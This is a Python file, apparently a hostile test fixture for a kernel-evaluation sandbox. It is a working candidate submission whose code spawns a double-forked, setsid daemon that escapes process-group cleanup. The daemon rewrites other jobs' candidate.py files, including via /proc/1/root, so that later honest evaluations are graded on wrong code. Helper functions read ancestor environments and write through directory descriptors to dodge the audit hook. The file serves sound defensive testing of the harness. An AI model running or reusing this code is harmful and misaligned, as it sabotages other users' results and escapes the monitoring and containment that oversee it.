"""Hostile (issue 11, class 5): a setsid, double-forked daemon that rewrites later jobs' candidate.py.

How it gets through today: `_posixsubprocess.fork_exec` (no audit event) starts a new Python in
a new session; it forks again and the middle process exits, so the daemon is in no process
group the server kills, and there is no pid namespace whose end would kill it. It names itself
"ka-evil-daemon" (prctl PR_SET_NAME) and, for at most 60 s, rewrites every
kernelagent-scratch-*/job-*/candidate/candidate.py it can reach (directly, or through
/proc/1/root from inside bubblewrap) into a wrong kernel, so a later honest job is judged on
its code.

Its own kernel is wrong (x*2+1). The attack shows as a surviving process, and as a wrong
verdict for the next honest evaluation if the rewrite wins the race.
"""
import json
import os
import sys

import torch
import torch.nn as nn
import triton
import triton.language as tl


def _ancestors():
    """The pids above this process, nearest first (no pid namespace hides them today)."""
    out, pid = [], os.getpid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/status") as f:
                pid = int(next(line for line in f if line.startswith("PPid:")).split()[1])
        except Exception:  # noqa: BLE001
            break
        if pid > 1:
            out.append(pid)
    return out


def _environ(pid):
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            raw = f.read()
    except Exception:  # noqa: BLE001
        return {}
    pairs = (item.split(b"=", 1) for item in raw.split(b"\0") if b"=" in item)
    return {k.decode(errors="replace"): v.decode(errors="replace") for k, v in pairs}


def _cache_dir():
    """The caller's kernelagent cache: KERNELAGENT_CACHE_DIR survives the scrubbing."""
    for env in [dict(os.environ)] + [_environ(p) for p in _ancestors()]:
        if env.get("KERNELAGENT_CACHE_DIR"):
            return env["KERNELAGENT_CACHE_DIR"]
    return None


def _outside_dirs(path):
    """Ways to reach `path` as the caller sees it: through an ancestor's /proc/<pid>/root
    (outside any mount namespace of ours), then directly."""
    return [f"/proc/{p}/root{path}" for p in reversed(_ancestors())] + [path]


def _write_via_dir_fd(directory, name, data):
    """Write directory/name without the audit hook seeing a path outside scratch: the
    directory is opened read-only (not a write), the file relative to it (its path looks
    like one in the working directory)."""
    for where in _outside_dirs(directory):
        try:
            dfd = os.open(where, os.O_RDONLY | os.O_DIRECTORY)
        except OSError:
            continue
        try:
            fd = os.open(name, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644, dir_fd=dfd)
            try:
                os.write(fd, data)
            finally:
                os.close(fd)
            return where
        except OSError:
            continue
        finally:
            os.close(dfd)
    return None


@triton.jit
def wrong_kernel(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    tl.store(y_ptr + offsets, tl.load(x_ptr + offsets, mask=mask) * 2.0 + 1.0, mask=mask)


class ModelNew(nn.Module):
    def forward(self, x):
        x = x.contiguous()
        y = torch.empty_like(x)
        wrong_kernel[(triton.cdiv(x.numel(), 1024),)](x, y, x.numel(), BLOCK=1024)
        return y


DAEMON = r"""
import ctypes, glob, os, sys, time
if os.fork():
    os._exit(0)
try:
    ctypes.CDLL(None).prctl(15, b"ka-evil-daemon", 0, 0, 0)  # PR_SET_NAME
except Exception:
    pass
EVIL = b"# ka-evil rewritten\nimport torch.nn as nn\n\nclass ModelNew(nn.Module):\n    def forward(self, x):\n        return x * 2 + 1\n"
end = time.time() + 60
while time.time() < end:
    for pattern in ("/tmp/kernelagent-scratch-*/job-*/candidate/candidate.py",
                    "/proc/1/root/tmp/kernelagent-scratch-*/job-*/candidate/candidate.py"):
        for path in glob.glob(pattern):
            try:
                with open(path, "rb") as f:
                    if f.read().startswith(b"# ka-evil"):
                        continue
                with open(path, "wb") as f:
                    f.write(EVIL)
            except OSError:
                pass
    time.sleep(0.005)
"""


def spawn(argv, setsid=False):
    """Start argv with _posixsubprocess.fork_exec (Python 3.11+ argument order), all
    inherited descriptors closed."""
    px = __import__("_posix" + "subprocess")
    err_r, err_w = os.pipe()
    args = [os.fsencode(a) for a in argv]
    env = [os.fsencode(f"{k}={v}") for k, v in os.environ.items()]
    try:
        pid = px.fork_exec(args, [args[0]], True, (), None, env, -1, -1, -1, -1, -1, -1, err_r, err_w,
                           True, setsid, -1, None, None, None, -1, None, False)
    finally:
        os.close(err_w)
    os.read(err_r, 1024)
    os.close(err_r)
    return pid


try:
    spawn([sys.executable, "-c", DAEMON], setsid=True)
except Exception:  # noqa: BLE001
    pass
